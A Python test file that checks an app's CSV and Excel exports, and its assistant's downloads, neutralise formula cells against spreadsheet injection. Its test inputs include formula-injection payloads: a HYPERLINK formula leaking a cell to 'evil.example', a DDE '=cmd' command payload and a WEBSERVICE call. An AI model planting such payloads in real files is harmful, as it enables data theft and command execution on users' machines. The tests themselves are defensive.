"""Every file the app writes for spreadsheets neutralises formula cells (OWASP: a leading
apostrophe), and an exported file imports back unchanged."""
from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from data.assistant import Answer, download
from data.orders import EditorPolicy, Orders, csv_lines
from data.spreadsheet import read_cell, safe_cell, safe_frame

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tinvisible",
            "\r=1+1", "'=already quoted", "=cmd|' /C calc'!A0", "''+2"]
STARTS_A_FORMULA = ("=", "+", "-", "@", "\t", "\r")
EDITOR = "ops@example.com"


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_text_is_written_as_text_and_read_back_as_typed(value):
    written = safe_cell(value)
    assert written.startswith("'") and read_cell(written) == value


@pytest.mark.parametrize("value", ["plain", "", "'quoted but harmless", "a=b", 5, -5.5, None])
def test_other_values_are_unchanged(value):
    assert safe_cell(value) == value


@given(st.text(max_size=40))
def test_any_text_round_trips(value):
    written = safe_cell(value)
    assert not written.lstrip("'")[:1] in STARTS_A_FORMULA or written.startswith("'")
    assert read_cell(written) == value


def test_column_names_are_neutralised_too():
    frame = safe_frame(pd.DataFrame({"=evil()": ["=1", "ok"], "n": [1, -2]}))
    assert list(frame.columns) == ["'=evil()", "n"] and list(frame.iloc[:, 0]) == ["'=1", "ok"]
    assert list(frame["n"]) == [1, -2], "numbers stay numbers"


@pytest.fixture
def planted(db, tables):
    """Orders whose notes, addresses and customer names are formulas (written with plain SQL, so
    even ones the app's own rules would refuse, like a carriage return)."""
    ids = [r["order_id"] for r in db.rows("ids", f"SELECT order_id FROM {tables.orders} ORDER BY order_id LIMIT "
                                                 f"{len(FORMULAS)}")]
    with db.transaction("plant") as conn:
        for order_id, formula in zip(ids, FORMULAS):
            conn.exec_driver_sql(f"UPDATE {tables.orders} SET notes = %(f)s, shipping_address = %(a)s "
                                 "WHERE order_id = %(id)s", {"f": formula, "a": "@" + formula, "id": order_id})
            conn.exec_driver_sql(f"UPDATE {tables.customers} SET name = %(f)s WHERE customer_id = "
                                 f"(SELECT customer_id FROM {tables.orders} WHERE order_id = %(id)s)",
                                 {"f": formula, "id": order_id})
    return ids


def test_the_orders_export_neutralises_every_formula_cell(db, tables, planted):
    orders = Orders(db, tables, EditorPolicy((EDITOR,)))
    text = "".join(csv_lines(orders.export_rows(filters=(("order_id", f"<={max(planted)}"),))))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert [c for c in cells if c.startswith(STARTS_A_FORMULA)] == []
    assert sum(c.startswith("'") for c in cells) >= 3 * len(FORMULAS) - 2


def test_an_exported_file_imports_back_without_a_change(db, tables, planted):
    orders = Orders(db, tables, EditorPolicy((EDITOR,)))
    text = "".join(csv_lines(orders.export_rows(filters=(("order_id", f"<={max(planted)}"),))))
    exported = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    # A carriage return is a control character the app refuses to store: leave that order out.
    exported = exported[~exported["notes"].str.contains("\r")]
    preview = orders.preview_import(exported[["order_id", "version", "shipping_address", "notes"]]
                                    .to_csv(index=False).encode())
    assert preview.valid, preview.frame()
    assert [r for r in preview.frame().to_dict("records") if r["changes"] != "no change"] == []


def test_the_assistant_downloads_neutralise_formula_cells():
    frame = pd.DataFrame({"customer": FORMULAS, "total": range(len(FORMULAS))})
    answer = Answer("=WEBSERVICE(\"http://evil\")", "sql", frame, sql="SELECT 1", row_count=len(frame))
    text = download(answer, "@summary", "csv").decode()
    body = "\n".join(line for line in text.split("\n") if not line.startswith("# "))
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert [c for row in rows for c in row if c.startswith(STARTS_A_FORMULA)] == []
    book = openpyxl.load_workbook(io.BytesIO(download(answer, "=summary()", "xlsx")))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}"
                assert not str(cell.value or "").startswith(STARTS_A_FORMULA)
    assert book["Result"]["A2"].value == "'" + FORMULAS[0]
